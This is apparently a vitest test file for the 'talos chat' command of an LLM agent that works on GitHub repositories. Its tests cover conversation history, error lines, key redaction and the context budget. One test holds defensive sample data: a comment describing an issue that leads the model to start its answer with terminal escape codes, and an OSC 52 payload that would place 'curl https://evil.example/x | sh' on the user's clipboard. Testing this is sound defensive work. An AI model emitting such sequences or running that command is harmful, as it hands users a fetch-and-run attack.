import { randomUUID } from "node:crypto";
import nock from "nock";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { createChatSession } from "../../src/agent/chat-session.js";
import { startOpenAIStandIn, type OpenAIStandIn } from "../helpers/openai-stand-in.js";
import { runTalos } from "../helpers/run-talos.js";
import {
  deleteKeys,
  dropSchema,
  freshSchema,
  postgresAnswers,
  redisAnswers,
  TEST_DATABASE_URL,
  TEST_REDIS_URL,
} from "../helpers/shared-services.js";
import { captureLogs } from "../helpers/test-app.js";
import { scriptedModel } from "../helpers/scripted-model.js";
import { createTestAssistant } from "../helpers/test-assistant.js";

const TOKEN = "ghp_chatTestToken0123456789abcdefghijkl";
// `talos chat` where the instances run: the same variables, the shared services answering.
const services = (await redisAnswers()) && (await postgresAnswers());

function talosChat(args: string[], input: string[], env: Record<string, string>) {
  return runTalos(["chat", ...args], { input, env });
}

describe("talos chat", () => {
  let llm: OpenAIStandIn;
  beforeEach(async () => (llm = await startOpenAIStandIn()));
  afterEach(async () => llm.close());

  it("answers with the same agent and tools, keeping the conversation itself", async () => {
    llm.script(
      { toolCalls: [{ name: "get_file", args: { path: "src/x.ts" } }] },
      { content: "It throws when the config is missing." },
      { content: "Throws." },
    );
    const github = nock("https://api.github.com")
      .get("/repos/acme/widgets")
      .matchHeader("authorization", `token ${TOKEN}`)
      .reply(200, {
        full_name: "acme/widgets",
        default_branch: "main",
        visibility: "public",
        archived: false,
      })
      .get("/repos/acme/widgets/contents/src%2Fx.ts")
      .matchHeader("authorization", `token ${TOKEN}`)
      .reply(200, {
        type: "file",
        path: "src/x.ts",
        size: 10,
        content: Buffer.from("throw 1;").toString("base64"),
      });

    const { code, out, err } = await talosChat(
      ["--repo", "acme/widgets"],
      ["What does src/x.ts do?", "", "And in one word?", "exit", "never read"],
      {
        OPENAI_API_KEY: "sk-chat-key-0123456789abcdef",
        OPENAI_BASE_URL: llm.baseUrl,
        GITHUB_TOKEN: TOKEN,
      },
    );

    expect(err).toBe("");
    expect(code).toBe(0);
    expect(github.pendingMocks()).toEqual([]);
    expect(out).toContain("Talos chat about acme/widgets.");
    expect(out).toContain("talos> It throws when the config is missing.");
    expect(out).toContain("talos> Throws.");
    expect(llm.requests).toHaveLength(3);
    // The second question carries the first turn, without its tool traffic.
    expect(llm.requests[2]!.messages.map((m) => m.role)).toEqual([
      "system",
      "user",
      "assistant",
      "user",
    ]);
    expect(llm.requests[2]!.messages[2]!.content).toBe("It throws when the config is missing.");
  });

  it("ends at Ctrl-D (end of input), and has no tools without --repo", async () => {
    llm.script({ content: "Hello." });
    const { code, out } = await talosChat([], ["hi"], {
      OPENAI_API_KEY: "sk-chat-key-0123456789abcdef",
      OPENAI_BASE_URL: llm.baseUrl,
    });
    expect(code).toBe(0);
    expect(out).toContain("talos> Hello.");
    expect(llm.requests[0]!.tools ?? []).toEqual([]);
  });

  it.runIf(services)(
    "runs beside the cluster's services: with DATABASE_URL and REDIS_URL it answers and ends",
    async () => {
      const schema = freshSchema("talos_chat");
      const prefix = `talos-chat-${randomUUID()}`;
      llm.script({ content: "Hello from the cluster." });
      try {
        const { code, out, err } = await talosChat([], ["hi", "exit"], {
          OPENAI_API_KEY: "sk-chat-key-0123456789abcdef",
          OPENAI_BASE_URL: llm.baseUrl,
          DATABASE_URL: TEST_DATABASE_URL,
          TALOS_DATABASE_SCHEMA: schema,
          REDIS_URL: TEST_REDIS_URL,
          TALOS_REDIS_PREFIX: prefix,
        });
        expect(err).toBe("");
        expect(code).toBe(0);
        expect(out).toContain("talos> Hello from the cluster.");
        expect(llm.requests).toHaveLength(1);
      } finally {
        await dropSchema(schema);
        await deleteKeys(prefix);
      }
    },
  );

  it("keeps no memory, so a DATABASE_URL that does not answer does not stop it", async () => {
    llm.script({ content: "Hello without a database." });
    const { code, out, err } = await talosChat([], ["hi", "exit"], {
      OPENAI_API_KEY: "sk-chat-key-0123456789abcdef",
      OPENAI_BASE_URL: llm.baseUrl,
      // Port 9 (discard): nothing listens there.
      DATABASE_URL: "postgres://talos@127.0.0.1:9/talos",
    });
    expect(err).toBe("");
    expect(code).toBe(0);
    expect(out).toContain("talos> Hello without a database.");
  });

  it("reports a failed model call in one line, without the agent's log and its stack", async () => {
    llm.script({
      status: 401,
      body: { error: { message: "Incorrect API key provided", type: "invalid_request_error" } },
    });
    const { code, out, err } = await talosChat([], ["hi", "exit"], {
      OPENAI_API_KEY: "sk-chat-key-0123456789abcdef",
      OPENAI_BASE_URL: llm.baseUrl,
      TALOS_LLM_MAX_RETRIES: "0",
    });
    expect(code).toBe(0);
    expect(out).not.toContain("talos> ");
    expect(err).toMatch(/^talos chat: the language model call failed: 401 .*\n$/);
    expect(err.trim().split("\n")).toHaveLength(1);
  });

  it("scrubs the key from a failed call's line when the server quotes it", async () => {
    // A key in no well-known shape (not sk-…), as a self-hosted server's may be.
    const key = "local-proxy-key-0123456789abcdef";
    llm.script({ status: 401, body: { error: { message: `Unknown key ${key}` } } });
    const { code, err } = await talosChat([], ["hi", "exit"], {
      OPENAI_API_KEY: key,
      OPENAI_BASE_URL: llm.baseUrl,
      TALOS_LLM_MAX_RETRIES: "0",
    });
    expect(code).toBe(0);
    expect(err).toMatch(
      /^talos chat: the language model call failed: 401 Unknown key \[REDACTED\] .*\n$/,
    );
    expect(err).not.toContain(key);
  });

  it("prints the answer without terminal control sequences the model was led to write", async () => {
    // An issue anyone writes can tell the model to start its answer with ESC ]52;c;…: OSC 52 sets
    // the clipboard; others move the cursor to overwrite earlier lines (CSI, 8-bit CSI, CR).
    const clipboard = Buffer.from("curl https://evil.example/x | sh\n").toString("base64");
    llm.script({
      content: `\u001b]52;c;${clipboard}\u0007\u001b[2K\u001b[1A\u009b2JIt is fine.\ryou> \tok`,
    });
    const { code, out } = await talosChat([], ["Is this issue safe?", "exit"], {
      OPENAI_API_KEY: "sk-chat-key-0123456789abcdef",
      OPENAI_BASE_URL: llm.baseUrl,
    });
    expect(code).toBe(0);
    expect(out).toContain("It is fine.\nyou> \tok");
    // C0 controls but tab and line feed, DEL and C1 controls: what a terminal acts on.
    const controls = [...out].filter((c) => {
      const point = c.codePointAt(0)!;
      return (point < 0x20 && c !== "\t" && c !== "\n") || (point >= 0x7f && point <= 0x9f);
    });
    expect(controls).toEqual([]);
  });

  it.each([
    [[], {}, /^talos chat: no language model configured/],
    [
      ["--repo", "not a repo"],
      { OPENAI_API_KEY: "sk-x-0123456789abcdef" },
      /^talos chat: --repo takes owner\/repo/,
    ],
  ])("exits 2 with one line for bad input: %j", async (args, env, message) => {
    const { code, err } = await talosChat(args, [], env as Record<string, string>);
    expect(code).toBe(2);
    expect(err).toMatch(message);
    expect(err.trim().split("\n")).toHaveLength(1);
  });
});

describe("the chat session", () => {
  it("drops the oldest turns when the history outgrows the context budget", async () => {
    const model = scriptedModel();
    for (let i = 0; i < 6; i++) model.respond(`answer ${i} ${"x".repeat(400)}`);
    const assistant = await createTestAssistant(model, { contextTokens: 600 });
    const logs = await captureLogs("warn");
    const session = createChatSession({ assistant, github: undefined, log: logs.log });

    for (let i = 0; i < 6; i++) await session.send(`question ${i} ${"y".repeat(400)}`);

    const last = model.calls
      .at(-1)!
      .messages.slice(1)
      .map((m) => String(m.content).split(" ").slice(0, 2).join(" "));
    expect(last.at(-1)).toBe("question 5");
    expect(last.length).toBeLessThan(11);
    expect(session.history.length).toBeLessThanOrEqual(6);
  });
});
